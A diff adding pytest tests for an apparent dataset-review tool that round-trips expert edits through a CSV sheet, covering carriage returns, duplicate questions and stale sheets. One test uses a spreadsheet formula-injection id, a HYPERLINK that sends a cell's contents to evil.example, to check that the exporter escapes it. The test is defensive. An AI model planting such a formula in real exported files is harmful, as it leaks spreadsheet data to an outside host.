@@ -300,3 +300,96 @@ def test_sigkill_during_apply_keeps_corrections_and_rerun_matches_an_uninterrupt
     review.apply(twin / "review.csv", twin / "corrections.jsonl", twin / "dataset")
     assert repo.paths.corrections.read_bytes() == (twin / "corrections.jsonl").read_bytes()
     assert not [p for p in repo.root.iterdir() if p.name.endswith(".tmp")]  # cleaned up
+
+
+def test_a_lone_carriage_return_in_a_cell_round_trips_exactly(repo):
+    repo.write(repo.paths.generated, many(12) + [
+        answer("q-0100", "Why is NULL = NULL not true?", "first\rsecond")])
+    repo.run()
+    assert repo.rows()["q-0100"]["messages"][1]["content"] == "first\rsecond"
+    sheet = export(repo)
+    rows = sheet_rows(sheet)
+    assert len(rows) == 13  # the CR did not split the row in two
+    assert next(r for r in rows if r["id"] == "q-0100")["answer"] == "first\rsecond"
+    assert apply(repo, sheet).changed == []  # an unchanged sheet is a no-op
+    edit(sheet, "q-0100", question="Why is NULL = NULL never true?")  # pins the whole row
+    assert apply(repo, sheet).changed == ["q-0100 add_conversation (set)"]
+    [row] = correction_rows(repo)
+    assert [m["content"] for m in row["messages"]] == ["Why is NULL = NULL never true?",
+                                                       "first\rsecond"]
+
+
+def test_formula_like_ids_are_escaped_and_round_trip_exactly(repo):
+    risky = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    repo.write(repo.paths.imports / "mine.jsonl", [{
+        "id": risky, "source": "expert", "messages": [
+            {"role": "user", "content": "How do I vacuum a table in place?"},
+            {"role": "assistant", "content": "Run VACUUM on it."}]}])
+    repo.run()
+    assert risky in repo.rows()
+    sheet = export(repo)
+    text = sheet.read_text(encoding="utf-8-sig")
+    assert "\n=HYPERLINK" not in text and "\n\"=HYPERLINK" not in text  # never a formula
+    row = next(r for r in sheet_rows(sheet) if r["question"] == "How do I vacuum a table in place?")
+    assert row["id"] == "'" + risky
+    assert apply(repo, sheet).changed == []
+    edit(sheet, "'" + risky, answer="Run VACUUM (FULL) on it.")
+    assert apply(repo, sheet).changed == [f"{risky} replace_answer (set)"]
+    assert correction_rows(repo)[0]["id"] == risky
+    repo.run()
+    assert repo.rows()[risky]["messages"][1]["content"] == "Run VACUUM (FULL) on it."
+
+
+def test_two_new_rows_with_one_question_are_refused_naming_both(repo):
+    sheet = export(repo)
+    edit(sheet, "", question="What is a tablespace?", answer="A directory for data files.")
+    edit(sheet, "", question="What is a tablespace?", answer="A second, different answer.")
+    with pytest.raises(review.ReviewError, match=r"sheet row 15 and sheet row 16 .*same question"):
+        apply(repo, sheet)
+    assert not repo.paths.corrections.exists()
+
+
+def test_a_new_row_never_replaces_an_added_conversation_with_the_same_question(repo):
+    first = export(repo)
+    edit(first, "", question="What is a tablespace?", answer="A directory for data files.")
+    apply(repo, first)
+    before = repo.paths.corrections.read_bytes()
+    assert apply(repo, first).changed == []  # the same sheet again: nothing new
+    second = export(repo)
+    edit(second, "", question="What is a tablespace?", answer="Another expert's answer.")
+    with pytest.raises(review.ReviewError, match=r"sheet row \d+.*corrections.jsonl:1.*same "
+                                                 r"question"):
+        apply(repo, second)
+    assert repo.paths.corrections.read_bytes() == before
+
+
+def test_an_old_sheet_never_overwrites_an_expert_answer_made_since(repo):
+    old = repo.root / "old.csv"  # expert B exports, and edits later
+    review.export(repo.paths.out, repo.paths.corrections, repo.paths.questions, old)
+    sheet = export(repo)  # expert A edits q-0100, applies, and the dataset is rebuilt
+    edit(sheet, "q-0100", answer="A's expert answer.")
+    apply(repo, sheet)
+    repo.run()
+    before = repo.paths.corrections.read_bytes()
+    edit(old, "q-0100", answer="B's answer.")
+    with pytest.raises(review.ReviewError, match=r"row \d+ \(q-0100\): the answer was changed by "
+                                                 r"an expert.*A's expert answer.*B's answer"):
+        review.apply(old, repo.paths.corrections, repo.paths.out)
+    assert repo.paths.corrections.read_bytes() == before
+    fresh = export(repo)  # what the message says to do
+    edit(fresh, "q-0100", answer="A's expert answer, and B's.")
+    assert apply(repo, fresh).changed == ["q-0100 replace_answer (set)"]
+
+
+def test_an_edited_question_keeps_the_current_text_of_cells_left_alone(repo):
+    sheet = export(repo)  # exported before the answers are regenerated
+    repo.write(repo.paths.generated, many(12) + [
+        answer("q-0100", "Why is NULL = NULL not true?", "Regenerated answer.",
+               followup="And IS NULL?", followup_answer="Generated follow-up answer.",
+               followup_finish_reason="stop")])
+    repo.run()
+    edit(sheet, "q-0100", question="Why is NULL = NULL unknown?")
+    apply(repo, sheet)
+    [row] = correction_rows(repo)
+    assert [m["content"] for m in row["messages"]][:2] == [
+        "Why is NULL = NULL unknown?", "Regenerated answer."]  # not the older generated one
